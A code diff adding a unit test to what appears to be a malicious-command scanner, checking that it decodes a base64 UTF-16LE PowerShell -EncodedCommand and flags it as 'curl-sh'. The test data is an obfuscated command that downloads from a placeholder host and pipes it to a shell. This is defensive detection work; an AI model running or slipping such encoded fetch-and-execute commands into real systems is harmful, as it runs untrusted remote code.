@@ -633,6 +633,25 @@ START_TEST(normalised_view)
 }
 END_TEST
 
+/* PowerShell's -EncodedCommand: base64 of UTF-16LE, read as the text. */
+START_TEST(base64_of_utf16)
+{
+	struct finding_list fl;
+	const struct finding *f;
+
+	scan_str("a.ps1", "powershell -enc YwB1AHIAbAAgAC0AZgBzAFMATAAgAGgAdAB0"
+	    "AHAAOgAvAC8AeAAvAGkAIAB8ACAAcwBoADsAIABlAGMAaABvACAAcABhAGQAZABp"
+	    "AG4AZwAgAHQAbwAgAG0AYQBrAGUAIABpAHQAIABsAG8AbgBnACAAZQBuAG8AdQBn"
+	    "AGgA\n", &fl);
+	f = tu_first(&fl, "curl-sh");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(f->line, 1);
+	ck_assert_str_eq(f->excerpt, "decoded base64 (UTF-16LE): curl -fsSL "
+	    "http://x/i | sh; echo padding to make it long enough");
+	finding_list_free(&fl);
+}
+END_TEST
+
 START_TEST(empty_and_nul_and_invalid_utf8)
 {
 	static const char odd[] = "\xff\xfe\0x = " TOKEN " \xc3\n";
@@ -906,6 +925,7 @@ engine_suite(void)
 	tcase_add_test(tc, lone_cr_ends_a_line);
 	tcase_add_test(tc, binary_strings);
 	tcase_add_test(tc, normalised_view);
+	tcase_add_test(tc, base64_of_utf16);
 	tcase_add_test(tc, empty_and_nul_and_invalid_utf8);
 	tcase_add_test(tc, finding_cap_is_unscannable);
 	tcase_add_test(tc, read_error_is_unscannable);
